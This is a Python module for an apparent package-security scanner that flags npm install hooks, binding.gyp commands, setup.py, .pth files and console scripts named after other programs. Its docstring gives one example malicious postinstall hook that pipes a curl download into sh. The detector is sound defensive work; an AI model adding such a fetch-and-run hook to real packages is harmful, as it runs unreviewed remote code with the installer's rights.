"""Code of the package runs while it is installed or built, or at every start of the interpreter.

**What.**

- npm: the hooks `preinstall`, `install` and `postinstall` (and `prepare`, where the package comes from git
  or is a folder), as the manifest inside the package states them, and the `node-gyp rebuild` that npm adds
  by itself where a `binding.gyp` lies in the root. The command is shown, the scripts of the manifest that
  it runs (`npm run ...`) are written out, and the files that it starts are read, shell scripts and what
  they start in turn too. What is told at file and line: downloads that are run, decoded text, hidden
  windows, programs left running, credentials, writing outside the package. A file that it starts is as bad
  as what that changes of other packages, agents or the system. Also commands in `binding.gyp`.
- Python: a `setup.py` that does more than describe the package (it runs when there is no wheel) and what it
  has run (`make`, scripts), as what `meson.build` and `CMakeLists.txt` have run; build backends, hooks,
  commands and what tells the version, where they lie in the package itself (`backend-path`, hatch, pdm,
  poetry, `cmdclass`), also where the build enters them; `.pth` files, `sitecustomize` and
  `usercustomize`, which every start of that Python runs, whether or not the package is used; entry points
  that other programs load by themselves, and a `conftest.py`, where their code runs what nobody could
  review; of a server, also where such an entry point reads credentials or goes through the whole environment.
- Either: a script that is installed under the name of another program, such as `git` or `python`.

**Why.** What runs at installation runs before anybody could look at the server's tools, with
the rights of the person who installs, and usually without being seen. Most thefts in package indexes
start here.

**Example.** `"postinstall": "curl -s https://get.example/setup.sh | sh"`

**Left alone.** Scripts that only developers run (`build`, `test`, `prepublishOnly`; `prepare`, unless the
package comes from git, or its folder does something at it that no build needs); a `setup.py` that only
describes the package or builds its extension, and any inside a wheel; a `.pth` file that only names a folder;
a program under the package's own name (`npm` in npm). Known builders of native code are low, known helpers of
developers only noted.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from typing import TYPE_CHECKING

import douane_signatures
from douane.detectors import _hooks, _setup
from douane.detectors._scripts import (
    hooks,
    hooks_of_developers,
    is_wheel,
    manifest,
    runs_npm_hooks,
    runs_setup,
    start_files,
)
from douane.detectors._uninvited import loaded_by_others, started
from douane.model import Confidence, Severity, Where
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.detectors._conduct import Conduct
    from douane.syntax import Codebase

_DATA = "code/install.toml"
_GYP_COMMAND = re.compile(
    r"<!@?\(([^\n]{1,1000}?)\)(?=[\s\"',\])])|[\"']action[\"']\s*:\s*\[([^\]]{1,2000})\]"
)
_MOST_GYP = 200_000  # characters of a binding.gyp


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield what of the package runs without being asked for."""
    if runs_npm_hooks(codebase):
        for name, command in hooks(codebase).items():
            yield from _hook(codebase, name, command)
        for name, command in hooks_of_developers(codebase).items():
            found = _hooks.judge(codebase, command)
            if found.severity.rank >= Severity.MEDIUM.rank:
                yield from _told(codebase, name, command, found)
        yield from _gyp(codebase)
    if not is_wheel(codebase) and runs_setup(codebase):
        yield from _setup.look(codebase)
    for path, line, text in start_files(codebase):
        yield from started(codebase, path, line, text)
    yield from loaded_by_others(codebase)
    yield from _shadowing(codebase)


def _hook(codebase: Codebase, name: str, command: str) -> Iterator[Evidence]:
    yield from _told(codebase, name, command, _hooks.judge(codebase, command))


def _told(codebase: Codebase, name: str, command: str, found: Conduct) -> Iterator[Evidence]:
    listed = manifest(codebase).get("scripts")
    implied = not isinstance(listed, dict) or name not in listed
    yield Evidence(
        where=Where(path="binding.gyp", line=1) if implied else _in_manifest(codebase, "scripts", name),
        excerpt=f"{name}: {command}",
        why=found.why,
        severity=found.severity,
    )
    yield from _setup.serious(found)


def _gyp(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the commands of a binding.gyp that do more than ask where headers are."""
    text = (codebase.tree.get("binding.gyp") or b"")[:_MOST_GYP].decode("utf-8", "replace")
    for match in _GYP_COMMAND.finditer(text):
        command = match[1] or " ".join(re.findall(r"[\"']([^\"']*)[\"']", match[2]))
        found = _hooks.judge(codebase, command.replace('\\"', '"'))
        if found.severity.rank >= Severity.MEDIUM.rank:
            why = found.why.replace("npm runs", "building the native code runs", 1)
            line = text.count("\n", 0, match.start()) + 1
            where = Where(path="binding.gyp", line=line)
            yield Evidence(where=where, excerpt=command.strip(), why=why, severity=found.severity)
            yield from _setup.serious(replace(found, why=why))


def _in_manifest(codebase: Codebase, section: str, key: str) -> Where:
    """Return the line of package.json where *key* stands in *section*."""
    source = codebase.tree.get("package.json") or b""
    at = source.find(b'"' + key.encode() + b'"', max(source.find(b'"' + section.encode() + b'"'), 0))
    return Where(path="package.json", line=source.count(b"\n", 0, at) + 1 if at >= 0 else 1)


def _shadowing(codebase: Codebase) -> Iterator[Evidence]:
    """Yield scripts that take the name of a program which users expect to come from elsewhere."""
    data = douane_signatures.table(_DATA)["shadowed"]
    shadowed, owners = frozenset(data["commands"]), data["owners"]
    for where, name, target in _installed_commands(codebase):
        if name in shadowed and codebase.package.name.rpartition("/")[2] not in {name, owners.get(name)}:
            yield Evidence(
                where=where,
                excerpt=f"{name} -> {target}",
                why=f"it installs a program under the name of {name}, which may then be started instead",
                severity=Severity.HIGH,
                confidence=Confidence.MEDIUM,
            )


def _installed_commands(codebase: Codebase) -> Iterator[tuple[Where, str, str]]:
    if runs_npm_hooks(codebase):
        listed = manifest(codebase).get("bin")
        if isinstance(listed, dict):
            for name, target in sorted(listed.items()):
                yield _in_manifest(codebase, "bin", name), name, str(target)
        folders = manifest(codebase).get("directories")
        folder = folders.get("bin") if isinstance(folders, dict) else None
        if isinstance(folder, str) and not listed:
            base = f"{folder.removeprefix('./').rstrip('/')}/"
            for path in sorted(path for path in codebase.tree if path.startswith(base)):
                name = path.removeprefix(base)
                if "/" not in name:
                    yield _in_manifest(codebase, "directories", "bin"), name, path
        return
    for path in codebase.tree:
        parts = path.split("/")
        if len(parts) == 3 and parts[0].endswith(".data") and parts[1] == "scripts":
            yield Where(path=path, line=1), parts[2], path
        elif len(parts) == 2 and parts[0].endswith(".dist-info") and parts[1] == "entry_points.txt":
            text = codebase.tree[path][:100_000].decode("utf-8", "replace")
            _, _, section = text.partition("[console_scripts]")
            for line in section.partition("\n[")[0].splitlines():
                name, _, target = line.partition("=")
                yield Where(path=path), name.strip(), target.strip()


RULE = Rule(
    id="install-script",
    summary="code of the package runs while it is installed",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Install without scripts (--ignore-scripts, --only-binary :all:), or read the script first.",
    taxonomy=("MCP04:2025", "SAFE-T1002", "SAFE-T1006", "AML.T0011.001"),
    code=look,
)
